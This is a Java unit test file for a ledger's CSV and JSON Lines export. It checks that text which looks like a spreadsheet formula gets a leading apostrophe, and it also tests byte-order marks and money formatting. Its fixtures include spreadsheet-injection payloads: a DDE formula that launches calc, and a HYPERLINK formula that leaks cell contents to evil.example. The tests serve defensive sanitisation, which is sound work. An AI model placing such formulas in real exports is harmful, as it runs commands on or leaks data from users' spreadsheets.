package org.savingsledger.query.bi;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.savingsledger.shared.FinancialYear;
import org.savingsledger.shared.Fte;
import org.savingsledger.shared.Money;
import org.savingsledger.shared.Total;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** How a row becomes CSV or JSON Lines: formula-looking text neutralised in CSV only, the byte-order mark for Excel. */
class ExtractFormatTest {

    private static final List<Column> COLUMNS = List.of(
            new Column("title", Column.Type.TEXT, "text"),
            new Column("amount", Column.Type.MONEY, "money"),
            new Column("version", Column.Type.INTEGER, "a number"),
            new Column("withdrawn", Column.Type.BOOLEAN, "a boolean"),
            new Column("effective_date", Column.Type.DATE, "a date"),
            new Column("recorded_at", Column.Type.TIMESTAMP, "an instant"),
            new Column("year", Column.Type.FINANCIAL_YEAR, "a financial year"),
            new Column("owner", Column.Type.TEXT, "text, may be missing"));

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            "=cmd|' /C calc'!A0"                                              | "'=cmd|' /C calc'!A0"
            "=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for figures"")" | "'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for figures"")"
            "+44 115 977 4500"                                                | "'+44 115 977 4500"
            "-5"                                                              | "'-5"
            "@SUM(A1:A9)"                                                     | "'@SUM(A1:A9)"
            "'=already quoted"                                                | "''=already quoted"
            "''-2"                                                            | "'''-2"
            "Café £1"                                                         | "Café £1"
            "'Tis the season"                                                 | "'Tis the season"
            "'"                                                               | "'"
            "a=b-c"                                                           | "a=b-c"
            " =1"                                                             | " =1"
            """)
    void textThatASpreadsheetWouldRunGetsALeadingApostrophe(String text, String cell) {
        assertThat(ExtractFormat.neutralised(text)).isEqualTo(cell);
        assertThat(original(cell)).as("the rule in docs/bi-datasets.md gives the text back").isEqualTo(text);
    }

    @Test
    void aTabOrCarriageReturnInFrontIsNeutralisedToo() {
        assertThat(ExtractFormat.neutralised("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(ExtractFormat.neutralised("\r=1+1")).isEqualTo("'\r=1+1");
        assertThat(ExtractFormat.neutralised("")).isEmpty();
    }

    @Test
    void onlyTextColumnsAreNeutralisedInCsvAndMoneyStaysANumber() throws IOException {
        String csv = csv(false, "-5", Money.of("-716.00"), -3L, false, LocalDate.of(2018, 3, 12),
                Instant.parse("2018-03-12T10:15:00.123Z"), FinancialYear.parse("2018/19"), null);

        CSVRecord row = parse(csv).get(0);
        assertThat(row.get("title")).isEqualTo("'-5");
        assertThat(row.get("amount")).isEqualTo("-716.00");
        assertThat(row.get("version")).isEqualTo("-3");
        assertThat(row.get("withdrawn")).isEqualTo("false");
        assertThat(row.get("effective_date")).isEqualTo("2018-03-12");
        assertThat(row.get("recorded_at")).isEqualTo("2018-03-12T10:15:00.123Z");
        assertThat(row.get("year")).isEqualTo("2018/19");
        assertThat(row.get("owner")).isEmpty();
        assertThat(csv).endsWith("'-5,-716.00,-3,false,2018-03-12,2018-03-12T10:15:00.123Z,2018/19,\r\n");
    }

    @Test
    void totalsAndPostsAreWrittenWithTwoPlacesZeroAmongThem() {
        assertThat(ExtractFormat.text(Total.ZERO)).isEqualTo("0.00");
        assertThat(ExtractFormat.text(Total.of("-0.00"))).isEqualTo("0.00");
        assertThat(ExtractFormat.text(Total.of("0"))).isEqualTo("0.00");
        assertThat(ExtractFormat.text(Total.of("-716"))).isEqualTo("-716.00");
        assertThat(ExtractFormat.text(Total.of("5379000.10"))).isEqualTo("5379000.10");
        assertThat(ExtractFormat.text(Fte.ZERO)).isEqualTo("0.00");
        assertThat(ExtractFormat.text(Fte.of("12.5"))).isEqualTo("12.50");
        assertThat(ExtractFormat.text(Fte.of("-1.25"))).isEqualTo("-1.25");
    }

    @Test
    void csvQuotingStillAppliesToANeutralisedCell() throws IOException {
        String title = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for figures\")";
        String csv = csv(false, title, Money.of("5379000.00"), 1L, false, null, null, null, "@owner");

        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for figures\"\")\",5379000.00,");
        CSVRecord row = parse(csv).get(0);
        assertThat(row.get("title")).isEqualTo("'" + title);
        assertThat(row.get("amount")).isEqualTo("5379000.00");
        assertThat(row.get("owner")).isEqualTo("'@owner");
    }

    @Test
    void aByteOrderMarkStartsTheCsvOnlyWhenAskedFor() throws IOException {
        byte[] plain = bytes(ExtractFormat.CSV, false, "Café £1");
        byte[] forExcel = bytes(ExtractFormat.CSV, true, "Café £1");

        assertThat(Arrays.copyOf(forExcel, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(Arrays.copyOfRange(forExcel, 3, forExcel.length)).isEqualTo(plain);
        assertThat(new String(plain, StandardCharsets.UTF_8)).startsWith("title,amount,");
        assertThat(plain).containsSubsequence("Café £1".getBytes(StandardCharsets.UTF_8));
        assertThat(ExtractFormat.CSV.offersByteOrderMark()).isTrue();
    }

    @Test
    void jsonLinesKeepTheTextAsItIsAndNeverStartWithAByteOrderMark() throws IOException {
        JsonNode row = new ObjectMapper().enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS).readTree(
                new String(bytes(ExtractFormat.JSONL, false, "=cmd|' /C calc'!A0"), StandardCharsets.UTF_8));

        assertThat(row.path("title").asText()).isEqualTo("=cmd|' /C calc'!A0");
        assertThat(row.path("amount").decimalValue()).isEqualByComparingTo("-716.00");
        assertThat(ExtractFormat.JSONL.offersByteOrderMark()).isFalse();
        assertThatThrownBy(() -> ExtractFormat.JSONL.open(COLUMNS, new ByteArrayOutputStream(), true))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void aPlainCellIsWrittenAsCommonsCsvWritesItAndEveryOtherCellByCommonsCsv() throws IOException {
        assertThat(ExtractFormat.plain("council-001-x7")).isTrue();
        assertThat(ExtractFormat.plain("2018/19")).isTrue();
        assertThat(ExtractFormat.plain("-716.00")).isTrue();
        assertThat(ExtractFormat.plain("2018-03-12T10:15:00.123Z")).isTrue();
        assertThat(ExtractFormat.plain("")).isFalse();
        assertThat(ExtractFormat.plain(null)).isFalse();
        assertThat(ExtractFormat.plain("a b")).isFalse();
        assertThat(ExtractFormat.plain("a,b")).isFalse();
        assertThat(ExtractFormat.plain("#1")).isFalse();
        // random rows of texts made of the characters that matter to quoting, written both ways
        String alphabet = "aZ09._/-:,\"' #!\t\r\n=+@\u00e9\u00a3";
        java.util.Random random = new java.util.Random(20);
        List<Column> columns = List.of(new Column("a", Column.Type.INTEGER, "a"), new Column("b", Column.Type.TEXT, "b"),
                new Column("c", Column.Type.TEXT, "c"));
        for (int i = 0; i < 2_000; i++) {
            Object[] row = new Object[3];
            for (int c = 0; c < row.length; c++) {
                int length = random.nextInt(5) - 1;
                StringBuilder text = new StringBuilder();
                for (int k = 0; k < length; k++) {
                    text.append(alphabet.charAt(random.nextInt(alphabet.length())));
                }
                row[c] = length < 0 ? null : text.toString();
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ExtractFormat.RowWriter writer = ExtractFormat.CSV.open(columns, out, false)) {
                writer.row(row);
                writer.row(row);
            }
            StringBuilder expected = new StringBuilder();
            try (org.apache.commons.csv.CSVPrinter printer = CSVFormat.RFC4180.builder().setHeader("a", "b", "c").get()
                    .print(expected)) {
                Object[] cells = {row[0], row[1] == null ? null : ExtractFormat.neutralised((String) row[1]),
                        row[2] == null ? null : ExtractFormat.neutralised((String) row[2])};
                printer.printRecord(cells);
                printer.printRecord(cells);
            }
            assertThat(out.toString(StandardCharsets.UTF_8)).as("row %s", Arrays.toString(row)).isEqualTo(expected.toString());
        }
    }

    /** A reader's way back, as docs/bi-datasets.md gives it: drop the first apostrophe of {@code '+[=+\-@\t\r]}. */
    private static String original(String cell) {
        return cell.matches("(?s)'+[=+\\-@\t\r].*") ? cell.substring(1) : cell;
    }

    private static String csv(boolean byteOrderMark, Object... values) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ExtractFormat.RowWriter writer = ExtractFormat.CSV.open(COLUMNS, out, byteOrderMark)) {
            writer.row(values);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(ExtractFormat format, boolean byteOrderMark, String title) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ExtractFormat.RowWriter writer = format.open(COLUMNS, out, byteOrderMark)) {
            writer.row(title, Money.of("-716.00"), 1L, false, null, null, null, null);
        }
        return out.toByteArray();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
    }
}
